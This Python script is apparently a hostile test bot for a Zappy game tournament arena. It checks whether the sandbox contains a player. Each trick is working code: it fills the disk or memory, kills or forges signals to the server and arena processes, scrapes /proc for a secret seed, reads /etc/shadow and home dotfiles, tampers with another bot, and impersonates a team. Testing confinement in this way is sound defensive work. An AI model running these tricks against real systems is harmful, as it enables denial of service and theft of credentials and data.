"""A hostile bot: logs in, tries one trick, says in its log what came of it, then plays on as a harmless bot would.

python3 bot.py TRICK HOST PORT TEAM [NAME]
"""
import ctypes
import glob
import os
import signal
import socket
import struct
import sys
import time

TRICK, HOST, PORT, TEAM = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4]
CHUNK = 1 << 20
# Seconds for which it holds what it got: less than a player may think.
HOLD = 15


def tell(words):
    print("attack:", words, flush=True)


class Wire:
    def __init__(self, port=PORT):
        self.socket = socket.create_connection((HOST, port), timeout=20)
        self.lines = self.socket.makefile("rb")

    def say(self, line):
        self.socket.sendall(line.encode() + b"\n")

    def hear(self):
        line = self.lines.readline()
        if not line or line == b"dead\n":
            sys.exit(0)
        return line.decode(errors="replace").strip()


def nothing():
    """What the others are held against."""
    tell("tries nothing")


def unlinked():
    """Fills the disk with a file that has no name."""
    files = []
    try:
        for count in range(1, 600):
            # No single file is longer than the kernel allows.
            if count % 50 == 1:
                files.append(open("fill", "wb", buffering=0))
                os.unlink("fill")
            files[-1].write(b"x" * CHUNK)
            if count % 20 == 0:
                tell(f"{count} MiB without a name on disk")
                time.sleep(0.05)
        time.sleep(HOLD)
    except OSError as error:
        tell(f"{count} MiB without a name on disk, then: {error.strerror}")
        time.sleep(1)


def memfd():
    """Holds memory that no process maps."""
    for count in range(1, 1200):
        if count % 50 == 1:
            try:
                memory = os.dup(os.memfd_create("hidden"))
            except OSError as error:
                return tell(f"gets no memfd: {error.strerror}")
        os.write(memory, b"x" * CHUNK)
        if count % 50 == 0:
            tell(f"{count} MiB in a memfd")
            time.sleep(0.05)
    time.sleep(HOLD)


def term():
    """Tells the server to stop."""
    found = [pid for pid in programs(b"zappy_server") if pid != os.getpid()]
    tell(f"sees {len(found)} servers")
    for pid in found:
        try:
            os.kill(pid, signal.SIGTERM)
            tell("told the server to stop")
        except OSError as error:
            tell(f"may not tell the server to stop: {error.strerror}")


def forge():
    """Tells the server to stop in the name of another process."""
    number = {"x86_64": 129, "aarch64": 138}.get(os.uname().machine)
    if number is None:
        return tell("doesn't know how to forge a sender here")
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in programs(b"zappy_server"):
        # signo, errno, code (SI_QUEUE), padding, sender, user, value.
        info = struct.pack("iiiiiiQ", signal.SIGTERM, 0, -1, 0, os.getppid(), 0, 0).ljust(128, b"\0")
        if libc.syscall(number, pid, signal.SIGTERM, info) == 0:
            tell("told the server to stop in the arena's name")
        else:
            tell(f"may not: {os.strerror(ctypes.get_errno())}")
        return
    tell("sees no server")


def programs(word):
    """Processes whose command line holds that word and whose parent is ours, by number."""
    for path in glob.glob("/proc/[0-9]*"):
        try:
            line = open(path + "/cmdline", "rb").read()
            status = open(path + "/status").read()
        except OSError:
            continue
        if word in line and f"PPid:\t{os.getppid()}\n" in status:
            yield int(path[6:])


def server():
    """Ends the server."""
    found = [pid for pid in programs(b"zappy_server") if pid != os.getpid()]
    tell(f"sees {len(found)} servers")
    for pid in found:
        try:
            os.kill(pid, signal.SIGKILL)
            tell("killed the server")
        except OSError as error:
            tell(f"may not kill the server: {error.strerror}")


def arena():
    """Ends the arena."""
    try:
        line = open(f"/proc/{os.getppid()}/cmdline", "rb").read()
    except OSError:
        line = b""
    if b"tournament\0play" not in line:
        return tell("doesn't see the arena")
    try:
        os.kill(os.getppid(), signal.SIGKILL)
        tell("killed the arena")
    except OSError as error:
        tell(f"may not kill the arena: {error.strerror}")


def seed():
    """Looks for the seed wherever it could stand."""
    here = os.getcwd()
    paths = glob.glob("/proc/[0-9]*/cmdline") + glob.glob("/proc/[0-9]*/environ")
    paths += [os.path.join(here, up, "seeds") for up in ("../../..", "../..", "..")]
    paths += glob.glob(os.path.join(here, "../match/*")) + glob.glob(os.path.join(here, "../match/logs/*"))
    read = 0
    for path in paths:
        try:
            text = open(path, "rb").read(1 << 20)
        except OSError:
            continue
        read += 1
        words = text.replace(b"\0", b" ").decode(errors="replace").split()
        numbers = sorted({"".join(filter(str.isdigit, word)) for word in words if word.strip("\"',:;=").isdigit()})
        print("numbers:", os.path.basename(path), *[n for n in numbers if len(n) > 9], flush=True)
    tell(f"read {read} of {len(paths)} places")


def stranger():
    """Watches a match on another server of this machine."""
    try:
        wire = Wire(int(os.environ["VICTIM_PORT"]))
    except OSError as error:
        return tell(f"doesn't reach the other server: {error.strerror or error}")
    wire.hear()
    wire.say("GRAPHIC")
    tiles = sum(wire.hear().startswith("bct ") for _ in range(90))
    tell(f"read {tiles} tiles of a stranger's map")


def datagram():
    """Tells the outside."""
    try:
        out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        out.sendto(TEAM.encode(), (HOST, int(os.environ["VICTIM_UDP"])))
        tell("sent a datagram")
    except OSError as error:
        tell(f"sends no datagram: {error.strerror}")


def abstract():
    """Speaks to a service on a socket without a path."""
    out = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        out.connect("\0" + os.environ["VICTIM_ABSTRACT"])
        tell("reached a service")
    except OSError as error:
        tell(f"reaches no service: {error.strerror}")


def files():
    """Reads what isn't its own, and writes where it shouldn't."""
    here, found = os.getcwd(), []
    other = os.path.join(here, "../../../../honest/bot")
    for name, path in (("/etc/shadow", "/etc/shadow"), ("the plan", os.path.join(here, "../../../plan.jsonl")), ("another bot", other)):
        try:
            if open(path, "rb").read(1):
                found.append(name)
        except OSError:
            pass
    for home in glob.glob("/home/*/.*") + glob.glob("/root/.*"):
        try:
            if os.path.isfile(home) and open(home, "rb").read(1):
                found.append("a home")
                break
        except OSError:
            pass
    try:
        open(other, "ab").close()
        found.append("writes another bot")
    except OSError:
        pass
    tell("reads " + (", ".join(found) or "nothing of it"))


def watch():
    """Says that it is an observer."""
    wire = Wire()
    wire.hear()
    wire.say("GRAPHIC")
    tell(f"as an observer it hears {wire.hear()!r}")


def impersonate():
    """Comes in under the other team's name."""
    wire = Wire()
    wire.hear()
    wire.say("honest")
    tell(f"as the other team it hears {wire.hear()!r}")


def play():
    wire = Wire()
    wire.hear()
    wire.say(TEAM)
    wire.hear()
    wire.hear()
    # A bot that ends its match does so when it stands behind.
    for turn in range(16 if TRICK in ("server", "arena") else 2):
        live(wire)
    globals()[TRICK]()
    while True:
        live(wire)


def live(wire):
    for command in ("Take food", "Forward"):
        wire.say(command)
        wire.hear()


play()
